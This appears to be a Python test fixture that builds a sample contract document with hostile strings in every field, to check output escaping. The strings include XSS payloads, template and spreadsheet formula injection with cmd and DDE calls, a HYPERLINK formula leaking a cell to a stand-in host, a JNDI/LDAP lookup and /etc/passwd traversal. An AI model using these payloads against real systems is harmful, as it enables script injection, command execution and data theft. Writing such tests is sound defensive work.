"""Words that would do something in one form of output or another, and a deal that has them wherever words can stand."""

WORDS = (
    "<script>window.struck=1;alert(1)</script>",
    "</textarea></title></style></script><script>window.struck=2</script>",
    "\"><img src=x onerror='window.struck=3;alert(3)'>",
    "' onmouseover=alert(4) onfocus=alert(4) autofocus x='",
    "<svg/onload=alert(5)><animate onbegin=alert(5) attributeName=x dur=1s></svg>",
    "<iframe srcdoc='<script>parent.struck=6</script>'></iframe>",
    "<base href=//elsewhere.example><link rel=stylesheet href=//elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "javascript:alert(7)",
    "]]> --> <!-- <![CDATA[ ?> <?xml version='1.0'?> &xxe; &#60;script&#62;",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7 %>",
    "=cmd|' /C calc'!A1",
    '=HYPERLINK("http://elsewhere.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1|-2+3",
    "\\r\\nEND:VEVENT\\r\\nATTACH:http://elsewhere.example",
    "END:VCALENDAR;VALUE=URI:http://elsewhere.example,\\n",
    "[x](javascript:alert(8)) ![x](http://elsewhere.example/x.png) | `x` | **x** <http://elsewhere.example>",
    "</w:t></w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText> {INCLUDETEXT c:/x}",
    "../../etc/passwd %00 %s %n ${jndi:ldap://elsewhere.example}",
)
"""Each is one line; the language refuses control characters and marks of direction, as the tests of its texts show."""

ALL = " ".join(WORDS)


def quoted(words: str) -> str:
    """Words as a string of the language."""
    return '"' + words.replace("\\", "\\\\").replace('"', '\\"') + '"'


def hostile_deal(words: str = ALL) -> str:
    """A deal that has the words as every title, name, quote and text."""
    said = quoted(words)
    return f"""deal {said}
    currency USD
    period 2024-01-01 through 2027-12-31
    today 2025-06-01
    source paper {said}

party acme {said}, company
    discounts at 8%
    also called {quoted(words + " other")}
party ana {quoted(words + " too")}, person

asset thing {said} of acme
source paper {said}
    publisher {said}
    url {quoted("javascript:alert(9)//" + words)}
    published 2024-01-01

event reached {said} by ana
    likely 50%, between 2026-01 and 2027-06
    source paper {said}

driver sales {said} in USD per year
    known 2024 40m
    grows 5% to 25% per year
    source paper {said}

clause licence {said}
    ana may use thing
    until reached
    says {said}
    source paper {said}

clause fee {said}
    acme pays ana 5% of sales quarterly
    untranslated {said}, owner ana
    source paper {said}

clause prize {said}
    acme pays ana 1m within 30 days of reached

clause founding {said}
    acme issues ana 100 shares at 1 on 2024-07-01

clause report_it {said}
    acme must deliver thing by 2025-12-31

amendment more {said} signed 2025-01-01, binding
    source paper {said}
    change fee
        acme pays ana 6% of sales quarterly

scenario early {said}
    reached on 2026-02-01
"""
